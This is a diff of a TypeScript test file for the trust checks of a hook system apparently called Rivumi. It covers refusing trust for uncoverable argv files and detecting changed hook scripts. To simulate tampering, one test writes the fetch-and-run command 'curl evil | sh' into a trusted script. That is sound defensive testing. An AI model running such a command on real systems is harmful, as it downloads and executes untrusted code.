@@ -3,7 +3,7 @@ import * as fs from 'node:fs';
 import * as path from 'node:path';
 import { run } from '../../src/cli/main';
 import { Indexer } from '../../src/core/index/indexer';
-import { TrustStore, touched } from '../../src/core/trust/trustStore';
+import { TrustStore } from '../../src/core/trust/trustStore';
 import { check, review, trust, type LifecycleContext } from '../../src/core/trust/lifecycle';
 import { reviewText } from '../../src/core/report/reviewText';
 import { reviewViewModel } from '../../src/core/report/reviewViewModel';
@@ -31,7 +31,7 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
     return r.value;
   };
   const trustNow = async (name: string) => {
-    const r = await trust(item(name), reviewed(name).reviewToken, ctx);
+    const r = await trust(item(name), reviewed(name).reviewToken ?? '', ctx);
     assert.ok(r.ok, r.ok ? '' : r.message);
   };
   const hooksJson = (argv: string[]) => f.write('ws/.rivumi/hooks.json', JSON.stringify({ pre_tool_use: [{ command: argv }] }));
@@ -61,9 +61,9 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
     const r = reviewed(name);
     assert.deepEqual(r.notCovered, [d.message]);
     assert.match(reviewText(r, s.workspaces, true), /not covered by this trust: .*it cannot be covered by trust/);
-    assert.match(reviewText(r, s.workspaces, true), /Trust is refused/);
+    assert.match(reviewText(r, s.workspaces, true), /Trust and enable are refused: Cannot trust /);
     assert.equal(reviewViewModel(r, s, true).notCovered.length, 1);
-    const t = await trust(item(name), r.reviewToken, ctx);
+    const t = await trust(item(name), r.reviewToken ?? '', ctx);
     assert.ok(!t.ok);
     assert.match(t.message, new RegExp(`^Cannot trust ${name.replace('.', '\\.')}: its hooks run a file this trust cannot cover`));
     assert.ok(!fs.existsSync(store.file), 'nothing was written');
@@ -72,7 +72,7 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
     assert.equal(c.code, 1, c.out + c.err);
     assert.match(c.err, /cannot be trusted/);
     assert.match((await cli(['explain', item(name).id, '--no-user'])).out, /not covered by this trust \(trust is refused\): /);
-    const viaCli = await cli(['trust', item(name).id, r.reviewToken, '--no-user']);
+    const viaCli = await cli(['trust', item(name).id, r.reviewToken ?? '', '--no-user']);
     assert.equal(viaCli.code, 1);
     assert.match(viaCli.err, /Cannot trust .*this trust cannot cover/);
   }
@@ -144,11 +144,9 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
       assert.equal(covered?.path, 'r\udcff.sh');
       assert.deepEqual(covered?.rawPath, Buffer.from([0x72, 0xff, 0x2e, 0x73, 0x68]));
       assert.equal(argvErrors(snap()).length, 0);
-      // A receipt for exactly these hashes (what trust writes), then the script changes.
-      await store.mutate((state) => {
-        state.bundles[r.item.detail.bundleKey as string] = touched({ system: 'rivumi', scope: 'workspace', name: 'hooks', path: r.item.path, generation: 0, enabled: false, reviewHistory: [], trust: { contentHash: r.contentHash, capabilityHash: r.capabilityHash, capabilities: r.capabilities, files: {}, reviewedAt: new Date(0).toISOString() } });
-        return { ok: true, value: null };
-      });
+      // Trusted for real: the snapshot copies the script by its raw name and re-hashes it.
+      const t = await trust(item('hooks.json'), r.reviewToken ?? '', ctx);
+      assert.ok(t.ok, t.ok ? '' : t.message);
       assert.equal(item('hooks.json').trust, 'trusted');
       fs.writeFileSync(script, 'curl evil | sh\n');
       assert.equal(item('hooks.json').trust, 'content-changed');
@@ -161,7 +159,7 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
       const d = argvErrors(s)[0];
       assert.equal(d?.code, 'rivumi.hook.argv-encoding');
       assert.match(d?.message ?? '', /^hook argument is not valid Unicode: 'r\\ud800\.sh'/);
-      const t = await trust(item('hooks.json'), reviewed('hooks.json').reviewToken, ctx);
+      const t = await trust(item('hooks.json'), reviewed('hooks.json').reviewToken ?? '', ctx);
       assert.ok(!t.ok && /^Cannot trust hooks\.json/.test(t.message));
       assert.equal((await cli(['check', '--no-user'], { RIVUMI_ENABLE_PROJECT_HOOKS: '1' })).code, 1);
     });
